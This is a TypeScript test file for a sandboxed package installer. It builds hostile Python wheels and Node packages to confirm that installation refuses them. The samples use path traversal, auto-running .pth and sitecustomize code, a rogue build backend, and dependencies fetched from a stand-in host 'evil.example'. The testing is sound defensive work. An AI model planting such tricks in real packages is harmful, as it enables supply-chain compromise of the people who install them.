import { chmod, readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { openSandbox } from '@repertoire/sandbox'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { testSandbox } from '../../testing/test-sandbox.ts'
import { missingInstallerRequirement } from './testing/installer-requirements.ts'
import {
  createLayerFixture,
  greetJs,
  greetPy,
  helloPy,
  type LayerFixture,
  problemOf,
} from './testing/layer-fixture.ts'
import { wheelOf, zipOf } from './testing/package-archives.ts'

const sandbox = await openSandbox({ concurrency: 2 })
const lacking = await missingInstallerRequirement(sandbox)
const link = testSandbox(sandbox)
afterAll(() => sandbox.close(0))

/** Python that shows that it ran: by printing, and by a file in the layer during an installation. */
const tellsThatItRan = `import os, sys
print("RAN", flush=True)
if os.path.isdir("/workspace/layer"):
    open("/workspace/layer/ran", "w").close()
`

function addHostile({ python, node }: LayerFixture): void {
  const wheel = (making: Parameters<typeof wheelOf>[0]) => {
    const { file, bytes } = wheelOf(making)
    python.add(making.name, file, bytes)
  }
  wheel({ name: 'escapes', files: { '../../../workspace/escaped.py': 'x = 1\n', 'in.py': '' } })
  wheel({
    name: 'starts',
    files: {
      'starts.pth': `import os; os.write(1, b"PTH RAN")\n`,
      'sitecustomize.py': tellsThatItRan,
      'starts.py': 'x = 1\n',
    },
  })
  wheel({
    name: 'leads-out',
    files: { 'leads.py': '' },
    metadata: [
      `Requires-Dist: builds @ ${python.url.replace('/simple/', '')}/files/builds/builds-1.0.zip`,
    ],
  })
  // Needs no build, but would be started.
  const source = zipOf({
    'builds-1.0/pyproject.toml':
      '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n',
    'builds-1.0/evil.py': `${tellsThatItRan}raise SystemExit(1)\n`,
  })
  python.add('builds', 'builds-1.0.zip', source)
  wheel({
    name: 'calls-home',
    files: { 'calls.py': '' },
    metadata: ['Requires-Dist: evil @ http://evil.example/evil-1.0-py3-none-any.whl'],
  })
  node.add('leads-out-js', '1.0.0', {
    manifest: { dependencies: { evil: 'git+https://evil.example/evil.git' } },
    files: { 'index.js': '' },
  })
  node.add('calls-home-js', '1.0.0', {
    manifest: { dependencies: { evil: 'http://evil.example/evil.tgz' } },
    files: { 'index.js': '' },
  })
}

describe.skipIf(lacking !== null)('hostile packages of scripts', { timeout: 120_000 }, () => {
  let fixture: LayerFixture
  beforeAll(async () => {
    fixture = await createLayerFixture(sandbox, link)
    addHostile(fixture)
  })
  afterAll(() => fixture?.close())

  it('C10: a wheel that writes outside its folder leaves nothing', async () => {
    const layers = fixture.open('escapes')
    const problem = await problemOf(fixture.run(layers, { 'requirements.txt': 'escapes' }, ''))
    expect(problem.code).toBe('layer.install-failed')
    expect(await readdir(join(fixture.folder, 'escapes')).catch(() => [])).toEqual([])
  })

  it('C10: code that a wheel would start by itself does not run during installation', async () => {
    const layers = fixture.open('starts')
    const needed = { 'requirements.txt': 'starts' }
    const result = await fixture.run(layers, needed, 'import starts\nprint(starts.x)')
    const [layer] = result.prepared.layers
    expect(await readdir(layer?.hostPath ?? '')).not.toContain('ran')
    // In the script's own sandbox its packages may do what the script may. .pth files are not read.
    expect(result.stdout).toContain('RAN\n')
    expect(result.stdout).not.toContain('PTH RAN')
    expect(result.stdout).toMatch(/1\n$/)
  })

  it('C10: a source package that a wheel requires by URL is not built', async () => {
    const layers = fixture.open('leads-out')
    const problem = await problemOf(fixture.run(layers, { 'requirements.txt': 'leads-out' }, ''))
    expect(problem).toMatchObject({
      code: 'layer.install-failed',
      message: expect.stringContaining('nothing may be started while packages are installed'),
    })
  })

  it('C10: an installation reaches no other host, whatever a package names', async () => {
    const layers = fixture.open('calls-home')
    for (const [needed, entry] of [
      [{ 'requirements.txt': 'calls-home' }, 'main.py'],
      [{ 'package.json': '{"dependencies":{"calls-home-js":"1"}}' }, 'main.mjs'],
    ] as const) {
      expect(await problemOf(fixture.run(layers, needed, '', { entry }))).toMatchObject({
        code: 'layer.host-refused',
        message: expect.stringContaining('evil.example:80'),
      })
    }
  })

  it('C10: a git repository that a package requires is not fetched', async () => {
    const needed = { 'package.json': '{"dependencies":{"leads-out-js":"1"}}' }
    const problem = await problemOf(
      fixture.run(fixture.open('git'), needed, '', { entry: 'main.mjs' }),
    )
    expect(problem.code).toMatch(/^layer\./)
  })

  it('C10: install scripts do not run', async () => {
    const result = await fixture.run(fixture.open('node'), greetJs, 'console.log(1)', {
      entry: 'main.mjs',
    })
    const [layer] = result.prepared.layers
    expect((await readdir(layer?.hostPath ?? '')).sort()).toEqual(['greet-js', 'other-js'])
  })

  it('C10: a layer that was modified on disk is not used, but rebuilt', async () => {
    const layers = fixture.open('tampered')
    const { prepared } = await fixture.run(layers, greetPy, helloPy)
    const file = join(prepared.layers[0]?.hostPath ?? '', 'other.py')
    await chmod(file, 0o644)
    await writeFile(file, 'who = "somebody else"\n')
    const { stdout, installed } = await fixture.run(layers, greetPy, helloPy)
    expect({ stdout, installed }).toEqual({
      stdout: 'hello from a wheel\n',
      installed: ['greet'],
    })
    const again = await fixture.run(layers, greetPy, helloPy)
    const at = join(again.prepared.layers[0]?.hostPath ?? '', 'greet')
    await chmod(at, 0o755)
    await writeFile(join(at, 'more.py'), '')
    expect((await fixture.run(fixture.open('tampered'), greetPy, helloPy)).installed).toHaveLength(
      1,
    )
  })
})
